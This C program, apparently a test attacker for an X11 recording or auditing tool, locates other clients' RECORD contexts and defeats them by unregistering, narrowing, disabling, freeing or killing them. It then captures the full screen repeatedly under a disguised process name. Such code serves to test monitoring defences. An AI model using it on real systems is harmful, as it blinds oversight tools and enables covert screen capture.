/*
 * A program that does not want its captures recorded: it looks up other
 * programs' RECORD contexts, as anybody may, puts one of them out of action, and
 * then reads the screen ten times a second. It knows nothing of onlooker.
 *
 *   x11_attack METHOD [TIMES]
 *
 * Does so TIMES times (default: once), each time it finds a context at a look
 * all 20 ms, and prints "ready" after the first time.
 */
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

#include <xcb/record.h>
#include <xcb/res.h>
#include <xcb/xcb.h>

enum { PICTURES_S = 10 };

struct victim {
	uint32_t context; /* 0: nobody records */
	uint32_t other;   /* base of another connection of that process */
};

static uint32_t ours;

static uint32_t pid_of(xcb_connection_t *x, uint32_t base)
{
	const xcb_res_client_id_spec_t spec = { base, 2 };
	xcb_res_query_client_ids_reply_t *reply =
		xcb_res_query_client_ids_reply(
			x, xcb_res_query_client_ids(x, 1, &spec), NULL);
	xcb_res_client_id_value_iterator_t i;
	uint32_t pid = 0;

	if (reply == NULL)
		return 0;
	i = xcb_res_query_client_ids_ids_iterator(reply);
	if (i.rem > 0 && xcb_res_client_id_value_value_length(i.data) > 0)
		pid = *xcb_res_client_id_value_value(i.data);
	free(reply);
	return pid;
}

/* The latest RECORD context of a client, 0 if it has none. */
static uint32_t find_context(xcb_connection_t *x, uint32_t base,
                             xcb_atom_t type)
{
	const xcb_res_resource_id_spec_t spec = { 0, 0 }; /* any */
	xcb_res_query_resource_bytes_reply_t *reply =
		xcb_res_query_resource_bytes_reply(
			x, xcb_res_query_resource_bytes(x, base, 1, &spec),
			NULL);
	xcb_res_resource_size_value_iterator_t i;
	uint32_t context = 0;

	if (reply == NULL)
		return 0;
	i = xcb_res_query_resource_bytes_sizes_iterator(reply);
	for (; i.rem > 0; xcb_res_resource_size_value_next(&i)) {
		if (i.data->size.spec.type == type)
			context = i.data->size.spec.resource;
	}
	free(reply);
	return context;
}

static xcb_atom_t find_type(xcb_connection_t *x)
{
	static const char name[] = "RecordContext";
	xcb_intern_atom_reply_t *reply = xcb_intern_atom_reply(
		x, xcb_intern_atom(x, 0, sizeof(name) - 1, name), NULL);
	xcb_atom_t atom = reply != NULL ? reply->atom : XCB_ATOM_NONE;

	free(reply);
	return atom;
}

static bool find_victim(xcb_connection_t *x, xcb_atom_t type,
                        struct victim *victim)
{
	xcb_res_query_clients_reply_t *reply =
		xcb_res_query_clients_reply(x, xcb_res_query_clients(x), NULL);
	const xcb_res_client_t *clients = xcb_res_query_clients_clients(reply);
	int count = xcb_res_query_clients_clients_length(reply);
	uint32_t base = 0, pid;

	*victim = (struct victim){ 0 };
	for (int i = 0; i < count && victim->context == 0; i++) {
		base = clients[i].resource_base;
		if (base == 0)
			continue; /* the server itself */
		victim->context = find_context(x, base, type);
	}
	pid = pid_of(x, base);
	for (int i = 0; i < count && victim->context != 0; i++) {
		if (clients[i].resource_base != base &&
		    pid_of(x, clients[i].resource_base) == pid)
			victim->other = clients[i].resource_base;
	}
	free(reply);
	return victim->context != 0;
}

static void attack(xcb_connection_t *x, const char *method,
                   const struct victim *victim)
{
	const uint32_t all = XCB_RECORD_CS_ALL_CLIENTS;
	const xcb_record_range_t nothing = { .errors = { 1, 1 } };

	if (strcmp(method, "unregister") == 0)
		xcb_record_unregister_clients(x, victim->context, 1, &ours);
	else if (strcmp(method, "unregister-all") == 0)
		xcb_record_unregister_clients(x, victim->context, 1, &all);
	else if (strcmp(method, "narrow") == 0)
		xcb_record_register_clients(x, victim->context, 0, 1, 1, &ours,
		                            &nothing);
	else if (strcmp(method, "disable") == 0)
		xcb_record_disable_context(x, victim->context);
	else if (strcmp(method, "free") == 0)
		xcb_record_free_context(x, victim->context);
	else if (strcmp(method, "kill") == 0)
		xcb_kill_client(x, victim->context);
	else if (strcmp(method, "kill-other") == 0)
		xcb_kill_client(x, victim->other);
}

static void capture(xcb_connection_t *x)
{
	const struct timespec pause = { 0, 1000000000 / PICTURES_S };
	const xcb_screen_t *screen =
		xcb_setup_roots_iterator(xcb_get_setup(x)).data;

	while (xcb_connection_has_error(x) == 0) {
		free(xcb_get_image_reply(
			x,
			xcb_get_image(x, XCB_IMAGE_FORMAT_Z_PIXMAP,
		                      screen->root, 0, 0,
		                      screen->width_in_pixels,
		                      screen->height_in_pixels, ~0u),
			NULL));
		(void)nanosleep(&pause, NULL);
	}
}

int main(int argc, char **argv)
{
	const struct timespec pause = { 0, 20000000 };
	long times = argc > 2 ? strtol(argv[2], NULL, 10) : 1;
	xcb_connection_t *x = xcb_connect(NULL, NULL);
	struct victim victim;
	xcb_atom_t type;

	if (argc < 2 || xcb_connection_has_error(x) != 0)
		return 2;
	(void)prctl(PR_SET_NAME, "zqxv");
	free(xcb_record_query_version_reply(
		x, xcb_record_query_version(x, 1, 13), NULL));
	free(xcb_res_query_version_reply(x, xcb_res_query_version(x, 1, 2),
	                                 NULL));
	ours = xcb_get_setup(x)->resource_id_base;
	type = find_type(x);
	for (long i = 0; i < times; i++) {
		while (!find_victim(x, type, &victim))
			(void)nanosleep(&pause, NULL);
		attack(x, argv[1], &victim);
		free(xcb_get_input_focus_reply(x, xcb_get_input_focus(x),
		                               NULL));
		if (i == 0) {
			puts("ready");
			(void)fflush(stdout);
		}
		(void)nanosleep(&pause, NULL);
	}
	capture(x);
	return 0;
}
